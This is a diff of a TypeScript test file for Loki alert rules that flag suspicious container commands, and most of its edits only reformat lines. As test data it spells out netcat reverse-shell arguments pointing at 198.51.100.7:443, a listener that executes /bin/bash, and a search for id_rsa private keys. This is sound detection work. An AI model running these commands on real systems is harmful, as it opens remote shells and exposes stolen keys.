@@ -5,14 +5,19 @@ import { execEvent, logqlErrors, logRuleCounts } from './_support';
 const chart = newChart();
 const detection = new SuspiciousCommandDetection(chart, 'Cmd');
 const rule = (alert: string) => detection.lokiRules.find((r) => r.alert === alert)!.expr;
-const counts = (alert: string, binary: string, options: Parameters<typeof execEvent>[1] = {}) => logRuleCounts(rule(alert), execEvent(binary, { namespace: 'shop', ...options }));
+const counts = (alert: string, binary: string, options: Parameters<typeof execEvent>[1] = {}) =>
+  logRuleCounts(rule(alert), execEvent(binary, { namespace: 'shop', ...options }));
 
 describe('SuspiciousCommandDetection', () => {
   test('six alerts, no policy, all parse', () => {
     expect(synth(chart)).toStrictEqual([]);
     expect(detection.lokiRules.map((r) => r.alert)).toStrictEqual([
-      'TetragonPrivateKeySearch', 'TetragonAwsCredentialSearch', 'TetragonBulkDataRemoval', 'TetragonNetcatRemoteExecution',
-      'TetragonSystemUserInteractive', 'TetragonDebugfsInContainer',
+      'TetragonPrivateKeySearch',
+      'TetragonAwsCredentialSearch',
+      'TetragonBulkDataRemoval',
+      'TetragonNetcatRemoteExecution',
+      'TetragonSystemUserInteractive',
+      'TetragonDebugfsInContainer',
     ]);
     for (const r of detection.lokiRules) expect(logqlErrors(r.expr)).toStrictEqual([]);
   });
@@ -32,7 +37,9 @@ describe('SuspiciousCommandDetection', () => {
     expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/ncat', { arguments: '--sh-exec "/bin/bash -i" 198.51.100.7 443' })).toBe(true);
     expect(counts('TetragonNetcatRemoteExecution', '/bin/nc.traditional', { arguments: '-lvnp 4444 -e /bin/bash' })).toBe(true);
     expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/nc', { arguments: '-zv db 5432' })).toBe(false);
-    expect(logRuleCounts(rule('TetragonNetcatRemoteExecution'), execEvent('/usr/bin/nc', { arguments: '-e /bin/sh 10.0.0.1 1' }))).toBe(false);
+    expect(logRuleCounts(rule('TetragonNetcatRemoteExecution'), execEvent('/usr/bin/nc', { arguments: '-e /bin/sh 10.0.0.1 1' }))).toBe(
+      false,
+    );
     expect(counts('TetragonNetcatRemoteExecution', '/usr/bin/ncdu', { arguments: '-e /' })).toBe(false);
   });
 
@@ -49,8 +56,13 @@ describe('SuspiciousCommandDetection', () => {
   });
 
   test('exclusions apply to every alert', () => {
-    const scoped = new SuspiciousCommandDetection(newChart(), 'S', { excludeNamespaces: ['backup'], excludeBinaries: ['/usr/bin/gitleaks'] });
+    const scoped = new SuspiciousCommandDetection(newChart(), 'S', {
+      excludeNamespaces: ['backup'],
+      excludeBinaries: ['/usr/bin/gitleaks'],
+    });
     for (const r of scoped.lokiRules) expect(r.expr).toContain('namespace!~"backup"');
-    expect(logRuleCounts(scoped.lokiRules[0].expr, execEvent('/usr/bin/find', { namespace: 'backup', arguments: '/ -name id_rsa' }))).toBe(false);
+    expect(logRuleCounts(scoped.lokiRules[0].expr, execEvent('/usr/bin/find', { namespace: 'backup', arguments: '/ -name id_rsa' }))).toBe(
+      false,
+    );
   });
 });
